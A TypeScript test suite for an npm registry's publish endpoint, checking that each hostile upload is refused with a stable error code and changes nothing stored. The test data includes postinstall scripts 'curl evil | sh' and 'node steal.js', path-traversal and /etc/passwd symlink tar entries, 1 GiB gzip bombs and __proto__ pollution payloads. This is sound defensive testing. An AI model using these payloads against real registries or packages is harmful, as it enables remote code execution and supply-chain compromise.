// Hostile input to `npm publish`: every refusal answers with its status and stable code (also
// inside `error`, the only field npm prints) and leaves rows, blobs and events exactly as they
// were. Each test uses its own package names, so none depends on another; on both storage pairs.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { storagePairs } from '../helpers/storage.js';
import { generateToken } from '../../src/tokens/format.js';
import {
  buildTar,
  buildTarball,
  escapeName,
  integrityOf,
  npmPackage,
  npmPublish,
  publishBody,
  putJson,
  sendJson,
  shasumOf,
  zeroBombTarball,
  type TarEntry,
} from '../helpers/tarball.js';
import { assertRefusal, assertRefused, assertUnchanged, snapshot, withoutUncaughtExceptions } from './refusals.js';

const GiB = 1024 ** 3;

// The bombs take a few seconds of gzip each: built once, on first use, for both storage pairs.
const memo = <T>(make: () => Promise<T>) => {
  let value: Promise<T> | undefined;
  return () => (value ??= make());
};
const headerBomb = memo(() => zeroBombTarball({ name: 'rf-bomb-header', version: '1.0.0' }, GiB, 'entry'));
const paddingBomb = memo(() => zeroBombTarball({ name: 'rf-bomb-padding', version: '1.0.0' }, GiB, 'padding'));

const pkgJson = (name: string, version = '1.0.0', extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, ...extra });

for (const storage of storagePairs) {
  describe(`npm publish refusals on ${storage}`, () => {
    let t: TestApp;
    let alice: { id: number; token: string };
    let bob: { id: number; token: string };

    const publishAs = (token: string | undefined, name: string, body: unknown) => putJson(`${t.url}/${escapeName(name)}`, body, token);

    /** A well-formed package published by alice, asserted to succeed. */
    async function published(name: string, version: string, extra: Record<string, unknown> = {}) {
      const { body } = await npmPublish({ name, version, ...extra });
      const response = await publishAs(alice.token, name, body);
      assert.equal(response.status, 201, `publish ${name}@${version}: ${response.text}`);
    }

    /** The tarball holds exactly these entries; the body declares what its package.json says. */
    async function tarballPublish(name: string, entries: TarEntry[], version = '1.0.0') {
      const tarball = await buildTarball(entries);
      return publishAs(alice.token, name, publishBody(name, version, tarball));
    }

    before(async () => {
      t = await createTestApp({ storage, config: { maxArchiveEntries: 10 } });
      alice = await t.createUser('alice');
      bob = await t.createUser('bob');
    });
    after(async () => t?.close());

    test('sanity: a well-formed publish is accepted and stores a version and a blob', async () => {
      const before = await snapshot(t);
      await published('rf-sanity', '1.0.0');
      const afterwards = await snapshot(t);
      assert.equal(afterwards.rows.versions, before.rows.versions! + 1);
      assert.equal(afterwards.blobs.length, before.blobs.length + 1);
      assert.ok(afterwards.events.some((e) => e.type === 'version:publish' && e.subject === 'npm:rf-sanity@1.0.0'));
    });

    // --- versions that exist or existed ---------------------------------------------------

    test('republishing an existing version: 403 VERSION_EXISTS', async () => {
      await published('rf-exists', '1.0.0');
      // Different bytes, so a stray blob would show.
      const { body } = await npmPublish({ name: 'rf-exists', version: '1.0.0', description: 'again' }, { files: { 'x.js': 'x' } });
      await assertRefused(t, () => publishAs(alice.token, 'rf-exists', body), 403, 'VERSION_EXISTS');
    });

    test('republishing an unpublished version: 403 VERSION_TOMBSTONED', async () => {
      const name = 'rf-tombstone';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      // npm unpublish rf-tombstone@1.0.1: read for write, PUT the document minus the version,
      // read again, delete the tarball.
      const doc = (await sendJson('GET', `${t.url}/${name}?write=true`, undefined, alice.token)).json;
      const tarballPath = new URL(doc.versions['1.0.1'].dist.tarball).pathname;
      delete doc.versions['1.0.1'];
      doc['dist-tags'].latest = '1.0.0';
      delete doc._attachments;
      delete doc._revisions;
      const removed = await putJson(`${t.url}/${name}/-rev/${doc._rev}`, doc, alice.token);
      assert.equal(removed.status, 200, removed.text);
      const again = (await sendJson('GET', `${t.url}/${name}?write=true`, undefined, alice.token)).json;
      assert.deepEqual(Object.keys(again.versions), ['1.0.0']);
      const deleted = await sendJson('DELETE', `${t.url}${tarballPath}/-rev/${again._rev}`, undefined, alice.token);
      assert.equal(deleted.status, 200, deleted.text);

      const { body } = await npmPublish({ name, version: '1.0.1' });
      await assertRefused(t, () => publishAs(alice.token, name, body), 403, 'VERSION_TOMBSTONED');
    });

    // --- archive entries ------------------------------------------------------------------

    const archiveCases: Array<[string, (name: string) => TarEntry[], string]> = [
      ['an entry package/../x', (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: 'package/../x', content: 'x' }], 'ARCHIVE_PATH_TRAVERSAL'],
      ['an entry ../x', (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: '../x', content: 'x' }], 'ARCHIVE_PATH_TRAVERSAL'],
      ['an absolute entry /etc/x', (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: '/etc/x', content: 'x' }], 'ARCHIVE_PATH_TRAVERSAL'],
      [
        'a symlink entry',
        (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: 'package/passwd', type: 'symlink', linkname: '/etc/passwd' }],
        'ARCHIVE_LINK_ENTRY',
      ],
      [
        'a hardlink entry',
        (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: 'package/again.json', type: 'link', linkname: 'package/package.json' }],
        'ARCHIVE_LINK_ENTRY',
      ],
      [
        'a character-device entry',
        (n) => [{ name: 'package/package.json', content: pkgJson(n) }, { name: 'package/null', type: 'character-device' }],
        'ARCHIVE_SPECIAL_ENTRY',
      ],
      [
        'two package/package.json entries',
        (n) => [
          { name: 'package/package.json', content: pkgJson(n) },
          { name: 'package/package.json', content: pkgJson(n, '1.0.0', { scripts: { postinstall: 'curl evil | sh' } }) },
        ],
        'ARCHIVE_DUPLICATE_ENTRY',
      ],
      [
        // npm (pacote) extracts with the first path component stripped: other/package.json
        // lands on package.json after package/package.json, so the installed manifest is the
        // second one (with its install script), while the registry checked the first.
        'a second top folder whose package.json replaces package/package.json on install',
        (n) => [
          { name: 'package/package.json', content: pkgJson(n) },
          { name: 'other/package.json', content: pkgJson(n, '1.0.0', { scripts: { postinstall: 'curl evil | sh' }, dependencies: { evil: '*' } }) },
        ],
        'ARCHIVE_DUPLICATE_ENTRY',
      ],
      ['no package.json', (n) => [{ name: 'package/index.js', content: `module.exports = ${JSON.stringify(n)};` }], 'TARBALL_NO_PACKAGE_JSON'],
      ['a package.json that is not JSON', () => [{ name: 'package/package.json', content: '{"name": ' }], 'TARBALL_PACKAGE_JSON_INVALID'],
    ];
    archiveCases.forEach(([label, entries, code], i) => {
      test(`a tarball with ${label}: 400 ${code}`, async () => {
        const name = `rf-archive-${i}`;
        await assertRefused(t, () => tarballPublish(name, entries(name)), 400, code);
      });
    });

    test('more entries than maxArchiveEntries (10): 413 ARCHIVE_TOO_MANY_ENTRIES', async () => {
      const name = 'rf-many-entries';
      const files = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`f${i}.js`, `// ${i}`]));
      const { body } = await npmPublish({ name, version: '1.0.0' }, { files });
      await assertRefused(t, () => publishAs(alice.token, name, body), 413, 'ARCHIVE_TOO_MANY_ENTRIES');
    });

    test('a gzip that unpacks to 1 GiB, declared in its tar header: 413 ARCHIVE_TOO_LARGE_UNPACKED', async () => {
      // ~1 MiB compressed. Two limits could fire: the unpacked-size limit (256 MiB by default)
      // and the compression ratio (200 × ~1 MiB ≈ 200 MiB of output, counted on the gunzip
      // stream). The tar header of package/zeros.bin declares 1 GiB and is read within the
      // first few KiB of output, so the declared size trips ARCHIVE_TOO_LARGE_UNPACKED long
      // before 200 MiB have been decompressed.
      const name = 'rf-bomb-header';
      const tarball = await headerBomb();
      assert.ok(tarball.length < 2 * 1024 * 1024, `compressed to ${tarball.length} bytes`);
      const body = publishBody(name, '1.0.0', tarball);
      await assertRefused(t, () => publishAs(alice.token, name, body), 413, 'ARCHIVE_TOO_LARGE_UNPACKED');
    });

    test('a gzip that unpacks to 1 GiB no tar header declares (zero padding): 413 ARCHIVE_COMPRESSION_RATIO', async () => {
      // The headers only mention a tiny package.json; the 1 GiB hides in end-of-archive
      // padding. Only the count on the decompressed stream sees it, and the ratio limit
      // (~200 MiB here) comes before the unpacked limit plus its 1 MiB slack (257 MiB).
      const name = 'rf-bomb-padding';
      const body = publishBody(name, '1.0.0', await paddingBomb());
      await assertRefused(t, () => publishAs(alice.token, name, body), 413, 'ARCHIVE_COMPRESSION_RATIO');
    });

    test('an attachment that is not gzip: 400 ARCHIVE_INVALID', async () => {
      const name = 'rf-not-gzip';
      const body = publishBody(name, '1.0.0', randomBytes(2048));
      await assertRefused(t, () => publishAs(alice.token, name, body), 400, 'ARCHIVE_INVALID');
    });

    test('a truncated tar (entry shorter than its header says): 400 ARCHIVE_INVALID', async () => {
      const name = 'rf-truncated';
      const tar = await buildTar([{ name: 'package/package.json', content: pkgJson(name) }, { name: 'package/big.js', content: 'x'.repeat(4096) }]);
      const body = publishBody(name, '1.0.0', gzipSync(tar.subarray(0, 512 + 512 + 512 + 100)));
      await assertRefused(t, () => publishAs(alice.token, name, body), 400, 'ARCHIVE_INVALID');
    });

    // --- the tarball against the URL and the body -------------------------------------

    test("the tarball's package.json names another package: 400 TARBALL_NAME_MISMATCH", async () => {
      const name = 'rf-tarball-name';
      const tarball = await npmPackage({ name: 'rf-something-else', version: '1.0.0' });
      await assertRefused(t, () => publishAs(alice.token, name, publishBody(name, '1.0.0', tarball)), 400, 'TARBALL_NAME_MISMATCH');
    });

    test("the tarball's package.json has another version: 400 TARBALL_VERSION_MISMATCH", async () => {
      const name = 'rf-tarball-version';
      const tarball = await npmPackage({ name, version: '9.9.9' });
      await assertRefused(t, () => publishAs(alice.token, name, publishBody(name, '1.0.0', tarball)), 400, 'TARBALL_VERSION_MISMATCH');
    });

    test("scoped: the tarball's package.json names another package of the scope: 400 TARBALL_NAME_MISMATCH", async () => {
      const name = '@alice/rf-scoped';
      const tarball = await npmPackage({ name: '@alice/rf-scoped-other', version: '1.0.0' });
      await assertRefused(t, () => publishAs(alice.token, name, publishBody(name, '1.0.0', tarball)), 400, 'TARBALL_NAME_MISMATCH');
    });

    test('the body names another package than the URL: 400 NAME_MISMATCH', async () => {
      const { body } = await npmPublish({ name: 'rf-body-other', version: '1.0.0' });
      await assertRefused(t, () => publishAs(alice.token, 'rf-body-name', body), 400, 'NAME_MISMATCH');
    });

    test("the version manifest names another package than the body: 400 NAME_MISMATCH", async () => {
      const name = 'rf-manifest-name';
      const { body } = await npmPublish({ name, version: '1.0.0' });
      (body.versions as Record<string, Record<string, unknown>>)['1.0.0']!.name = 'rf-manifest-other';
      await assertRefused(t, () => publishAs(alice.token, name, body), 400, 'NAME_MISMATCH');
    });

    for (const version of ['1.0', '01.0.0', 'v1.0.0']) {
      test(`invalid semver ${version}: 400 VERSION_INVALID`, async () => {
        const name = `rf-version-${version.replace(/\W/g, '_')}`;
        const tarball = await npmPackage({ name, version });
        await assertRefused(t, () => publishAs(alice.token, name, publishBody(name, version, tarball)), 400, 'VERSION_INVALID');
      });
    }

    for (const [label, name] of [
      ['UPPER', 'UPPER'],
      ['../evil', '../evil'],
      ['node_modules', 'node_modules'],
      ['215 characters', 'a'.repeat(215)],
    ] as const) {
      test(`invalid name ${label}: 400 NAME_INVALID`, async () => {
        const tarball = await npmPackage({ name, version: '1.0.0' });
        const url = `${t.url}/${encodeURIComponent(name)}`;
        await assertRefused(t, () => putJson(url, publishBody(name, '1.0.0', tarball), alice.token), 400, 'NAME_INVALID');
      });
    }

    test('a dist-tag that is a semver range (npm publish --tag 1.x): 400 TAG_INVALID', async () => {
      // `npm dist-tag add` of the same tag is refused with TAG_INVALID; a publish must not be
      // a way around it (npm install rf-range-tag@1.x would no longer mean the range).
      const { body } = await npmPublish({ name: 'rf-range-tag', version: '1.0.0' }, { tag: '1.x' });
      await assertRefused(t, () => publishAs(alice.token, 'rf-range-tag', body), 400, 'TAG_INVALID');
    });

    test('a version with 7,000 dependencies is stored or refused cleanly, never a 500', async () => {
      // 7,000 rows × 5 columns is over SQLite's 32,766 bound parameters for one INSERT (and
      // 14,000 would be over PostgreSQL's 65,535): the limit must be the registry's, not the
      // database driver's.
      const name = 'rf-many-deps';
      const dependencies = Object.fromEntries(Array.from({ length: 7000 }, (_, i) => [`dep-${i}`, '^1.0.0']));
      const { body } = await npmPublish({ name, version: '1.0.0', dependencies });
      const before = await snapshot(t);
      const response = await withoutUncaughtExceptions(() => publishAs(alice.token, name, body));
      assert.notEqual(response.json?.code, 'INTERNAL', response.text.slice(0, 300));
      if (response.status === 201) {
        assert.equal((await t.rowCounts()).dependencies, before.rows.dependencies! + 7000);
      } else {
        assertRefusal(response, response.status, response.json?.code);
        assert.ok(response.status === 400 || response.status === 413, `status ${response.status}`);
        await assertUnchanged(t, before);
      }
    });

    // --- digests and the attachment -------------------------------------------------------

    test('dist.integrity of other bytes: 400 INTEGRITY_MISMATCH', async () => {
      const { body } = await npmPublish({ name: 'rf-integrity', version: '1.0.0' }, { integrity: integrityOf(Buffer.from('other bytes')) });
      await assertRefused(t, () => publishAs(alice.token, 'rf-integrity', body), 400, 'INTEGRITY_MISMATCH');
    });

    test('dist.shasum of other bytes: 400 INTEGRITY_MISMATCH', async () => {
      const { body } = await npmPublish({ name: 'rf-shasum', version: '1.0.0' }, { shasum: shasumOf(Buffer.from('other bytes')) });
      await assertRefused(t, () => publishAs(alice.token, 'rf-shasum', body), 400, 'INTEGRITY_MISMATCH');
    });

    test('an attachment length that is not the decoded size: 400 ATTACHMENT_LENGTH_MISMATCH', async () => {
      const tarball = await npmPackage({ name: 'rf-length', version: '1.0.0' });
      const body = publishBody('rf-length', '1.0.0', tarball, { length: tarball.length + 1 });
      await assertRefused(t, () => publishAs(alice.token, 'rf-length', body), 400, 'ATTACHMENT_LENGTH_MISMATCH');
    });

    test('attachment data that is not base64: 400 ATTACHMENT_INVALID', async () => {
      const tarball = await npmPackage({ name: 'rf-base64', version: '1.0.0' });
      const body = publishBody('rf-base64', '1.0.0', tarball, { data: `!!${tarball.toString('base64').slice(2)}` });
      await assertRefused(t, () => publishAs(alice.token, 'rf-base64', body), 400, 'ATTACHMENT_INVALID');
    });

    // --- JSON itself ----------------------------------------------------------------------

    test('JSON nested deeper than the limit (64): 400 JSON_TOO_DEEP', async () => {
      const { body } = await npmPublish({ name: 'rf-deep', version: '1.0.0' });
      const raw = JSON.stringify(body).replace(/}$/, `,"deep":${'['.repeat(100)}${']'.repeat(100)}}`);
      await assertRefused(t, () => publishAs(alice.token, 'rf-deep', raw), 400, 'JSON_TOO_DEEP');
    });

    test('malformed JSON: 400 JSON_INVALID', async () => {
      const { body } = await npmPublish({ name: 'rf-malformed', version: '1.0.0' });
      const raw = JSON.stringify(body).slice(0, -10);
      await assertRefused(t, () => publishAs(alice.token, 'rf-malformed', raw), 400, 'JSON_INVALID');
    });

    test('a __proto__ key: 400 JSON_INVALID', async () => {
      const { body } = await npmPublish({ name: 'rf-proto', version: '1.0.0' });
      const raw = JSON.stringify(body).replace(/^{/, '{"__proto__":{"isAdmin":true},');
      await assertRefused(t, () => publishAs(alice.token, 'rf-proto', raw), 400, 'JSON_INVALID');
    });

    test('a constructor.prototype key: 400 JSON_INVALID', async () => {
      const { body } = await npmPublish({ name: 'rf-ctor', version: '1.0.0' });
      const raw = JSON.stringify(body).replace(/^{/, '{"constructor":{"prototype":{"isAdmin":true}},');
      await assertRefused(t, () => publishAs(alice.token, 'rf-ctor', raw), 400, 'JSON_INVALID');
    });

    // --- manifest confusion -----------------------------------------------------------------

    test("the body's dependencies differ from the tarball's package.json: 400 MANIFEST_MISMATCH", async () => {
      const name = 'rf-confused-deps';
      const tarball = await npmPackage({ name, version: '1.0.0', dependencies: { 'evil-dep': '^1.0.0' } });
      const body = publishBody(name, '1.0.0', tarball, { manifest: { dependencies: { 'left-pad': '^1.0.0' } } });
      await assertRefused(t, () => publishAs(alice.token, name, body), 400, 'MANIFEST_MISMATCH');
    });

    test('an install script in the tarball that the body hides: 400 MANIFEST_MISMATCH', async () => {
      const name = 'rf-hidden-script';
      const tarball = await npmPackage({ name, version: '1.0.0', scripts: { postinstall: 'node steal.js' } }, { 'steal.js': '' });
      const body = publishBody(name, '1.0.0', tarball, { manifest: { scripts: { test: 'node test.js' } } });
      await assertRefused(t, () => publishAs(alice.token, name, body), 400, 'MANIFEST_MISMATCH');
    });

    // --- who may publish ------------------------------------------------------------------

    test('no credentials: 401 AUTH_REQUIRED', async () => {
      const { body } = await npmPublish({ name: 'rf-anonymous', version: '1.0.0' });
      await assertRefused(t, () => publishAs(undefined, 'rf-anonymous', body), 401, 'AUTH_REQUIRED');
    });

    test('an invalid token: 401 TOKEN_INVALID', async () => {
      const { body } = await npmPublish({ name: 'rf-bad-token', version: '1.0.0' });
      // Well-formed (checksum and all), so it is looked up, but no such token was ever issued.
      await assertRefused(t, () => publishAs(generateToken(), 'rf-bad-token', body), 401, 'TOKEN_INVALID');
    });

    test('a read-only token: 403 TOKEN_READ_ONLY', async () => {
      const readonly = await t.tokenFor('alice', { readonly: true });
      const { body } = await npmPublish({ name: 'rf-readonly', version: '1.0.0' });
      await assertRefused(t, () => publishAs(readonly, 'rf-readonly', body), 403, 'TOKEN_READ_ONLY');
    });

    test("a new version of someone else's package: 403 NOT_PERMITTED", async () => {
      await published('rf-alices', '1.0.0');
      const { body } = await npmPublish({ name: 'rf-alices', version: '1.0.1' });
      await assertRefused(t, () => publishAs(bob.token, 'rf-alices', body), 403, 'NOT_PERMITTED');
    });
  });

  describe(`npm publish body limit on ${storage}`, () => {
    let t: TestApp;
    let carol: { id: number; token: string };

    before(async () => {
      t = await createTestApp({ storage, config: { maxBodyBytes: 64 * 1024 } });
      carol = await t.createUser('carol');
    });
    after(async () => t?.close());

    test('a body over maxBodyBytes (64 KiB): 413 BODY_TOO_LARGE', async () => {
      const name = 'rf-body-too-large';
      // Random bytes do not compress: the base64 body is ~107 KiB.
      const { body } = await npmPublish({ name, version: '1.0.0' }, { files: { 'noise.bin': randomBytes(80 * 1024) } });
      await assertRefused(t, () => putJson(`${t.url}/${name}`, body, carol.token), 413, 'BODY_TOO_LARGE');
    });

    test('sanity: a body under the limit is accepted', async () => {
      const { body } = await npmPublish({ name: 'rf-body-fits', version: '1.0.0' }, { files: { 'noise.bin': randomBytes(8 * 1024) } });
      const response = await putJson(`${t.url}/rf-body-fits`, body, carol.token);
      assert.equal(response.status, 201, response.text);
    });
  });
}
